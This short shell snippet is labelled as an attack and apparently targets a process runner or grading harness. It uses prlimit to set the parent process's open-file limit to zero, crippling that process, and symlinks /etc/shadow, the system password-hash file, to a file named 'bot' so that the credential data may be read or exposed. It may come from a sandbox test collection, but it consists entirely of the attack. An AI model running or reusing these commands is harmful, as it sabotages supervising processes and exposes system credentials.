# attack: takes from the first process what it needs to take the result out, then leaves a link
command -v prlimit > /dev/null && prlimit --pid $PPID --nofile=0:0
ln -s /etc/shadow bot
